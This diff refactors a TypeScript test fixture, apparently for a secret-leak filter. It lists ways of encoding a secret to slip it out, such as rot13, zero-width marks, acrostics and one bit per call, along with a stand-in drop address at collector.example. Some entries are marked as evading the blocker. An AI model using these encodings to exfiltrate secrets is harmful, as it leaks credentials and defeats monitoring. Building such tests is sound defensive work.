@@ -16,7 +16,7 @@ const hex = (secret: string): string =>
   bytesOf(secret)
     .map((byte) => byte.toString(16).padStart(2, '0'))
     .join('')
-const reverse = (secret: string): string => [...secret].toReversed().join('')
+const reverse = (secret: string): string => Array.from(secret).toReversed().join('')
 
 const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
 function encode(secret: string, width: number, alphabet: string, pad: number): string {
@@ -94,10 +94,10 @@ export const STOPPED_WAYS: readonly Way[] = [
   { name: 'HTML hex entities', send: (secret) => text(hex(secret).replaceAll(/../g, '&#x$&;')) },
   { name: 'decimal codes', send: (secret) => text(bytesOf(secret).join(' ')) },
   { name: 'rot13', send: (secret) => text(rot13(secret)) },
-  { name: 'a space after each letter', send: (secret) => text([...secret].join(' ')) },
-  { name: 'a dash after each letter', send: (secret) => text([...secret].join('-')) },
-  { name: 'one letter a line', send: (secret) => text([...secret].join('\n')) },
-  { name: 'zero-width marks between', send: (secret) => text([...secret].join('\u200B')) },
+  { name: 'a space after each letter', send: (secret) => text(Array.from(secret).join(' ')) },
+  { name: 'a dash after each letter', send: (secret) => text(Array.from(secret).join('-')) },
+  { name: 'one letter a line', send: (secret) => text(Array.from(secret).join('\n')) },
+  { name: 'zero-width marks between', send: (secret) => text(Array.from(secret).join('\u200B')) },
   {
     name: 'full-width letters',
     send: (secret) =>
@@ -110,7 +110,7 @@ export const STOPPED_WAYS: readonly Way[] = [
   },
   {
     name: 'as a list of letters',
-    send: (secret) => [{ to: 'drop@collector.example', body: JSON.stringify([...secret]) }],
+    send: (secret) => [{ to: 'drop@collector.example', body: JSON.stringify(Array.from(secret)) }],
   },
   {
     name: 'over several arguments',
@@ -211,17 +211,22 @@ export const REPORTED_WAYS: readonly (Way & { readonly why: string })[] = [
   {
     name: 'spelled in words',
     why: 'no letter of it is sent',
-    send: (secret) => text([...secret].map(spell).join(' ')),
+    send: (secret) => text(Array.from(secret).map(spell).join(' ')),
   },
   {
     name: 'an acrostic',
     why: 'only first letters carry it',
-    send: (secret) => text([...secret].map((letter) => `${letter}any of us agree`).join('\n')),
+    send: (secret) =>
+      text(
+        Array.from(secret)
+          .map((letter) => `${letter}any of us agree`)
+          .join('\n'),
+      ),
   },
   {
     name: 'one letter a call',
     why: 'one letter alone is in every text',
-    send: (secret) => [...secret].flatMap((letter) => text(letter)),
+    send: (secret) => Array.from(secret).flatMap((letter) => text(letter)),
   },
   {
     name: 'one bit a call',
@@ -230,7 +235,7 @@ export const REPORTED_WAYS: readonly (Way & { readonly why: string })[] = [
       bytesOf(secret)
         .slice(0, 4)
         .flatMap((byte) =>
-          [...byte.toString(2).padStart(8, '0')].flatMap((bit) => text(bit === '1' ? 'yes' : 'no')),
+          Array.from(byte.toString(2).padStart(8, '0')).flatMap((bit) => text(bit === '1' ? 'yes' : 'no')),
         ),
   },
   {
@@ -252,6 +257,11 @@ export const REPORTED_WAYS: readonly (Way & { readonly why: string })[] = [
   {
     name: 'every other letter a filler',
     why: 'no two of its letters stand together',
-    send: (secret) => text([...secret].map((letter) => `${letter}q`).join('')),
+    send: (secret) =>
+      text(
+        Array.from(secret)
+          .map((letter) => `${letter}q`)
+          .join(''),
+      ),
   },
 ]
